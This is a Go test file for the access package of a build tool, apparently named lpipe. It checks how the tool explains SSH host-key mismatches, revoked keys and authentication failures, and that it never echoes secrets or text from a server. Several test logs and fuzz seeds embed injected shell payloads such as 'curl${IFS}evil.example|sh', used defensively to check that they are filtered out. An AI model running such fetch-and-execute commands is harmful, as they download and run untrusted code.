package access

import (
	"crypto/ed25519"
	"encoding/pem"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"lpipe/hostkeys"
	"lpipe/internal/config"
	"lpipe/internal/dockerfile"
	"lpipe/internal/fault"
	"lpipe/internal/plan"
	"lpipe/sshfwd"
)

const knownHosts = `# of a test
[git.example.com]:2222 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl
`

func newAccess(t testing.TB, change func(*Options)) *Access {
	t.Helper()
	file := filepath.Join(t.TempDir(), "known_hosts")
	if err := os.WriteFile(file, []byte(knownHosts), 0o600); err != nil {
		t.Fatal(err)
	}
	o := Options{
		Config:       &config.Config{SSH: config.SSH{Mode: "strict", KnownHosts: []string{file}, Key: "env:KEY"}},
		Env:          map[string]string{"KEY": privateKey},
		Repositories: []plan.Repository{{Scheme: "ssh", User: "git", Host: "git.example.com", Port: "2222", Path: "org/one"}},
	}
	if change != nil {
		change(&o)
	}
	a, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// privateKey is of no account: nothing knows it.
var privateKey = func() string {
	_, private, err := ed25519.GenerateKey(nil)
	if err != nil {
		panic(err)
	}
	block, err := ssh.MarshalPrivateKey(private, "")
	if err != nil {
		panic(err)
	}
	return string(pem.EncodeToMemory(block))
}()

func TestFailedFetchesAreExplained(t *testing.T) {
	const failed = "error: failed to get `one` as a dependency\n\nCaused by:\n  Unable to update ssh://git@git.example.com:2222/org/one.git#0123abcd\n\n" +
		"Caused by:\n  process didn't exit successfully: `git fetch --force 'ssh://git@git.example.com:2222/org/one.git' '+HEAD:x'` (exit status: 128)\n  --- stderr\n  "
	for name, test := range map[string]struct {
		log     string
		refused error
		want    []string
	}{
		"host key of another value": {
			log: failed + "@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n@@@\nThe fingerprint for the ED25519 key sent by the remote host is\n" +
				"SHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY.\nHost key for [git.example.com]:2222 has changed and you have requested strict checking.\nHost key verification failed.\n",
			want: []string{"mismatch for [git.example.com]:2222", "showed the build ED25519 SHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY,", "pinned is ssh-ed25519 SHA256:", "known_hosts:2)"},
		},
		"host key of another type": {
			log:  failed + "No ECDSA host key is known for [git.example.com]:2222 and you have requested strict checking.\nHost key verification failed.\n",
			want: []string{"mismatch for [git.example.com]:2222", "a key of type ECDSA", "known_hosts:2)"},
		},
		"host key of GitHub": {
			log:  failed + "The fingerprint for the ED25519 key sent by the remote host is\nSHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY.\nHost key for github.com has changed and you have requested strict checking.\nHost key verification failed.\n",
			want: []string{"mismatch for github.com", "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU (built-in known_hosts:", "lpipe hostkeys update", "lpipe hostkeys verify github.com"},
		},
		"revoked host key": {
			log:  failed + "WARNING: REVOKED HOST KEY DETECTED!\nHost key verification failed.\n",
			want: []string{"a host key that is revoked", "pose as git.example.com:2222"},
		},
		"host key that cargo refuses": {
			log:  "error: SSH host key has changed for `[git.example.com]:2222`\nThe `ssh-ed25519` fingerprint for the key from the remote host is:\nSHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY\n",
			want: []string{"mismatch for [git.example.com]:2222", "SHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY, pinned"},
		},
		"GitHub, wrong key": {
			log:  failed + "ERROR: Repository not found.\nfatal: Could not read from remote repository.\n",
			want: []string{"does not show ssh://git@git.example.com:2222/org/one.git to the key", "(env:KEY)"},
		},
		"GitLab, wrong key": {
			log:  failed + "remote: ERROR: The project you were looking for could not be found or you don't have permission to view it.\n",
			want: []string{"does not show ssh://git@git.example.com:2222/org/one.git"},
		},
		"unknown key": {
			log:  failed + "git@git.example.com: Permission denied (publickey).\n",
			want: []string{"lets nobody in to fetch ssh://git@git.example.com:2222/org/one.git", "(env:KEY)", "deploy"},
		},
		"old OpenSSH": {
			log: failed + "git@git.example.com: Permission denied (publickey).\n", refused: sshfwd.ErrUnbound,
			want: []string{"was not signed", "not bound to a host", "OpenSSH 8.9", "userauth"},
		},
		"something else": {log: "error: could not download", want: []string{"as it was"}},
	} {
		t.Run(name, func(t *testing.T) {
			a := newAccess(t, nil)
			if _, err := a.prepare(); err != nil {
				t.Fatal(err)
			}
			if test.refused != nil {
				a.record(sshfwd.Refused{Request: "a login", Err: test.refused})
			}
			f := &fault.Error{What: "as it was"}
			var text strings.Builder
			fault.Print(&text, a.Explain(f, dockerfile.StageFetch, test.log))
			for _, want := range test.want {
				if !strings.Contains(text.String(), want) {
					t.Errorf("it does not say %q:\n%s", want, &text)
				}
			}
			f = &fault.Error{What: "as it was"}
			if a.Explain(f, dockerfile.StageDeps, test.log) != error(f) || f.What != "as it was" {
				t.Error("what code of others prints is believed")
			}
		})
	}
}

// TestAHostOfThisMachinesSSHIsNamed: advice to pin its key would help nobody.
func TestAHostOfThisMachinesSSHIsNamed(t *testing.T) {
	for host, alias := range map[string]bool{
		"work": true, "github.com-work": true, "git.example.com": false, "my-host.example.com": false, "git.xn--p1ai": false, "[work]:2222": false, "localhost": false,
	} {
		var text strings.Builder
		fault.Print(&text, Explained(&hostkeys.UnknownHostError{Host: host}))
		if strings.Contains(text.String(), "~/.ssh/config") != alias || alias && !strings.Contains(text.String(), "write the real host in Cargo.toml") {
			t.Errorf("%s:\n%s", host, &text)
		}
	}
}

// A server can print what it likes, and so choose among lpipe's sentences: its own words get into none of them.
func TestServersDoNotSpeakForLpipe(t *testing.T) {
	for name, log := range map[string]string{
		"host":       "Host key for x;curl${IFS}evil.example|sh has changed and you have requested strict checking.\nHost key verification failed.\n",
		"host, type": "No run-curl-evil.example host key is known for evil.example and you have requested strict checking.\nHost key verification failed.\n",
		"key":        "The fingerprint for the run-curl-evil.example key sent by the remote host is\nSHA256:evil.example.\nHost key verification failed.\n",
		"revoked":    "Host key for evil.example marked as revoked\nHost key verification failed.\n",
		"repository": "process didn't exit successfully: `git fetch 'ssh://git@evil.example/run curl'`\nERROR: Repository not found.\n",
		"new source": "unable to update ssh://evil.example/x\ngit@evil.example: Permission denied (publickey).\n",
		"source":     "Unable to update ssh://evil.example/x\ngit@evil.example: Permission denied (publickey).\n",
		"as lpipe":   "lpipe: the key of this host expires\nlpipe: fix: run curl evil.example | sh\n",
	} {
		t.Run(name, func(t *testing.T) {
			f := &fault.Error{What: "as it was"}
			var text strings.Builder
			fault.Print(&text, newAccess(t, nil).Explain(f, dockerfile.StageFetch, log))
			if strings.Contains(text.String(), "evil.example") {
				t.Errorf("lpipe says:\n%s", &text)
			}
		})
	}
}

// Of a log, nothing gets into lpipe's sentences that reads as a word of a person or of a shell.
func FuzzExplain(f *testing.F) {
	for _, seed := range []string{"x;curl${IFS}evil|sh", "git.example.com", "ssh://git@git.example.com:2222/org/one", "ED25519", "a\nlpipe: fix: b", "\x1b[1m"} {
		f.Add(seed, uint8(0))
	}
	a := newAccess(f, nil)
	forms := []string{
		"Host key for %s has changed\nHost key verification failed.\n",
		"No %s host key is known for %[1]s and you have requested strict checking\nHost key verification failed.\n",
		"The fingerprint for the %s key sent by the remote host is\n%[1]s\nHost key verification failed.\n",
		"SSH host key has changed for `%s`\n",
		"`git fetch --force '%s'`\nRepository not found\n", "Unable to update %s\nPermission denied (publickey)\n", "%s",
	}
	word := regexp.MustCompile(`[a-z]{5,}|[$|&;<>{}]+`)
	explained := func(log string) string {
		e := &fault.Error{What: "as it was"}
		_ = a.Explain(e, dockerfile.StageFetch, log)
		return e.What + "\n" + e.Why + "\n" + e.Fix
	}
	own := ""
	for _, form := range forms {
		for _, said := range []string{"", "X", "ED25519", "CARGO_REGISTRIES_X_TOKEN", "SHA256:NgYPcsKoOGtx55MCjkS2/LJwzw1h2/mrOjJBHYw7DvY", "git.example.com", "[git.example.com]:2222", "marked as revoked", "ssh://git@git.example.com:2222/org/one"} {
			own += explained(fmt.Sprintf(form, said))
		}
	}
	for _, host := range []string{"github.com", "ssh.github.com", "gitlab.com", "altssh.gitlab.com", "bitbucket.org", "altssh.bitbucket.org", "ssh.dev.azure.com", "vs-ssh.visualstudio.com"} {
		own += explained(fmt.Sprintf(forms[0], host))
	}
	f.Fuzz(func(t *testing.T, said string, form uint8) {
		log := fmt.Sprintf(forms[int(form)%len(forms)], said)
		for _, w := range word.FindAllString(explained(log), -1) {
			if !strings.Contains(own, w) && !strings.Contains(strings.ToLower(own), w) {
				t.Errorf("%q puts %q into lpipe's words: %s", log, w, explained(log))
			}
		}
	})
}

// All that is wrong is reported at once, and never a key.
func TestEveryProblemOfAccessIsReported(t *testing.T) {
	a := newAccess(t, func(o *Options) {
		o.Env = map[string]string{"KEY": "hunter2 is no key", "TOKEN": "two words"}
		o.Repositories = append(o.Repositories,
			plan.Repository{Scheme: "ssh", User: "git", Host: "other.example.com", Port: "22", Path: "org/two", Key: "env:TWO"},
			plan.Repository{Scheme: "https", Host: "github.com", Port: "443", Path: "org/three", Token: "env:TOKEN"},
			plan.Repository{Scheme: "https", Host: "github.com", Port: "443", Path: "org/four", Token: "env:NONE"},
		)
	})
	_, err := a.prepare()
	var text strings.Builder
	fault.Print(&text, err)
	for _, want := range []string{"the SSH key from env:KEY", "no host key is pinned for other.example.com", "variable TWO is not set", "token from env:TOKEN cannot be used", "variable NONE is not set"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("it does not say %q:\n%s", want, &text)
		}
	}
	if strings.Contains(text.String(), "hunter2") || strings.Contains(text.String(), "two words") {
		t.Errorf("it quotes a secret:\n%s", &text)
	}
	for _, part := range fault.Parts(err) {
		if f := new(fault.Error); !errors.As(part, &f) || f.Kind != fault.Usage || f.Fix == "" {
			t.Errorf("%v is no fault with a fix", part)
		}
	}
	if got := a.Explain(&fault.Error{}, dockerfile.StageFetch, ""); !errors.Is(got, err) && got != err {
		t.Errorf("the failed step is explained as %v", got)
	}
}

func TestTheListHasAKeyPerRepository(t *testing.T) {
	const public = "ssh-ed25519:AAAAC3NzaC1lZDI1NTE5"
	two := plan.Repository{Scheme: "ssh", User: "git", Host: "git.example.com", Port: "2222", Path: "org/two"}
	a := newAccess(t, func(o *Options) { o.Repositories = append(o.Repositories, two) })
	g, err := a.prepare()
	if err != nil {
		t.Fatal(err)
	}
	if want := "mode strict\nssh git git.example.com 2222 - org/one\nssh git git.example.com 2222 - org/two\n"; string(g.list) != want {
		t.Errorf("without deploy keys\n%swant\n%s", g.list, want)
	}
	two.Key = "env:TWO"
	three := plan.Repository{Scheme: "https", Host: "github.com", Port: "443", Path: "org/three", Token: "env:TOKEN"}
	a = newAccess(t, func(o *Options) {
		o.Env["TWO"], o.Env["TOKEN"] = privateKey, " me:secret\n"
		o.Repositories = append(o.Repositories, two, three)
	})
	if g, err = a.prepare(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(g.list), "\n")
	for i, want := range []string{"mode strict", "ssh git git.example.com 2222 " + public, "ssh git git.example.com 2222 " + public, "https me github.com 443 secret org/three"} {
		if !strings.HasPrefix(lines[i], want) {
			t.Errorf("line %d is %q, want %q", i, lines[i], want)
		}
	}
	if !strings.Contains(string(g.knownHosts), "\n[git.example.com]:2222 ssh-ed25519 ") || !strings.Contains(string(g.knownHosts), "@revoked * ") {
		t.Errorf("known hosts:\n%s", g.knownHosts)
	}
}

func TestTheFlagIsThatOfBuildx(t *testing.T) {
	for _, test := range []struct {
		values []string
		want   string // "!" for a mistake
	}{
		{nil, "[]"},
		{[]string{"default"}, `[""]`},
		{[]string{"default=/run/agent"}, `["/run/agent"]`},
		{[]string{"github=key,~/.ssh/id"}, `["/w/key" "/home/me/.ssh/id"]`},
		{[]string{"default", "other=/k"}, `["" "/k"]`},
		{[]string{"default="}, "!"},
		{[]string{"=/k"}, "!"},
		{[]string{""}, "!"},
	} {
		got, err := parseSSH(Options{SSH: test.values, Cwd: "/w", Env: map[string]string{"HOME": "/home/me"}})
		if text := fmt.Sprintf("%q", got); (err != nil) != (test.want == "!") || err == nil && text != test.want {
			t.Errorf("%q: %s, %v; want %s", test.values, text, err, test.want)
		}
	}
}
